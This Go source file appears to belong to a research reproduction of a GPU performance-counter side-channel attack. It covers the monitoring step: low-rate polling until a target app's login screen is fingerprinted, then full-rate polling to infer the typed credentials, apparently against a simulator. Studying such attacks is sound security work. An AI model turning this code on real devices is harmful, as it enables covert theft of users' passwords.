package attack

import (
	"context"
	"math"

	"gpuleak/internal/obs"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

// Figure 4's Online Phase begins with a monitoring service that runs in
// the background and watches for the launch of a target application; only
// then does the attacker start full-rate counter polling and inference.
// The paper cites procfs-based app-detection techniques [14,15,49,50] for
// this step and notes they reach >90% accuracy over >100 apps; here the
// launch is detected from the GPU counters themselves: an app launch is a
// full-screen first render whose counter fingerprint matches one of the
// preloaded per-configuration models. Low-duty polling while waiting
// keeps the background service cheap (§7.6).

// launchTolerance is the relative fingerprint mismatch accepted as a
// launch. Different login screens sit ~2-4% apart in relative
// fingerprint distance while a re-render of the same screen stays within
// ~0.1%.
const launchTolerance = 0.01

// MonitorResult reports a monitored eavesdropping run.
type MonitorResult struct {
	// LaunchDetectedAt is when the monitor saw the target app start.
	LaunchDetectedAt sim.Time
	// Detected reports whether a launch fingerprint fired at all.
	Detected bool
	// IdleReads counts the successful low-duty reads after the first one
	// spent waiting.
	IdleReads int
	// IdleRecovery is the recovery work of the low-duty wait: its
	// retries, re-reservations and dropped ticks. Result.Recovery covers
	// the full-rate phase only, whose trace the inference ran on.
	IdleRecovery CollectStats
	// Result is the credential inference from the detection point on
	// (nil when no launch was detected).
	Result *Result
}

// MonitorAndEavesdrop runs the full Figure-4 online phase: low-duty
// polling (every 4 eavesdropping intervals) until a target-app launch
// fingerprint appears, then full-rate eavesdropping until end. f is any
// Probe. Both phases poll through one sampler, so with a.Retry on a
// transient device error during the idle wait is retried, re-reserved
// and at worst turned into a missed tick, exactly as at full rate; ctx
// is checked at every tick of both.
func (a *Attack) MonitorAndEavesdrop(ctx context.Context, f Probe, start, end sim.Time) (*MonitorResult, error) {
	interval := a.Interval
	if interval <= 0 {
		interval = DefaultInterval
	}
	idleInterval := windowsFor(interval).idle

	s, err := NewSamplerTaxonomy(f, idleInterval, a.Retry, a.Errors)
	if err != nil {
		return nil, err
	}
	s.Obs = a.Obs

	var idle *obs.Span
	if a.Obs.Enabled() {
		idle = a.Obs.Start(start, evIdleWait, obs.Int("idle_interval_us", int(idleInterval)))
	}
	// A launch frame may split across two idle reads, so the sums of the
	// last few changes inside a launch window at the idle rate are matched
	// against every model's fingerprint too.
	window := windowsFor(idleInterval).launch
	var recent []trace.Delta
	var detected *Model
	var detectedAt sim.Time
	watch := func(d trace.Delta) bool {
		recent = append(recent, d)
		if len(recent) > 3 {
			recent = recent[1:]
		}
		var sum trace.Vec
		for i := len(recent) - 1; i >= 0 && d.At-recent[i].At <= window; i-- {
			sum = sum.Add(recent[i].V)
			for _, m := range a.Models {
				if launchMatch(m, sum) <= launchTolerance {
					detected, detectedAt = m, d.At
					return false
				}
			}
		}
		return true
	}
	var tr trace.Trace
	if err := s.poll(ctx, start, end, &tr, watch); err != nil {
		return nil, err
	}
	out := &MonitorResult{IdleReads: max(tr.Reads-1, 0), IdleRecovery: s.Stats}
	idle.AddField(obs.Int("idle_reads", out.IdleReads))
	a.Obs.Metrics().Add(mMonitorIdleReads, int64(out.IdleReads))
	if detected == nil {
		idle.End(end)
		return out, nil
	}
	idle.End(detectedAt)
	if a.Obs != nil {
		a.Obs.Emit(detectedAt, evLaunchDetected, obs.Str("model", detected.Key.String()))
	}
	out.Detected = true
	out.LaunchDetectedAt = detectedAt

	// Full-rate eavesdropping from the detection point.
	s.Interval = interval
	o := newOnline(a, interval, detected, nil)
	tr = trace.Trace{}
	if err := s.poll(ctx, detectedAt, end, &tr, o.push); err != nil {
		return nil, err
	}
	res, err := o.finish()
	if err != nil {
		return nil, err
	}
	res.addRecovery(s.Stats)
	out.Result = res
	return out, nil
}

// launchMatch scores a candidate launch delta against a model's
// fingerprint: relative weighted distance.
func launchMatch(m *Model, v trace.Vec) float64 {
	norm := m.Launch.Norm(m.Weights)
	if norm <= 0 {
		return math.Inf(1)
	}
	return v.Dist(m.Launch, m.Weights) / norm
}
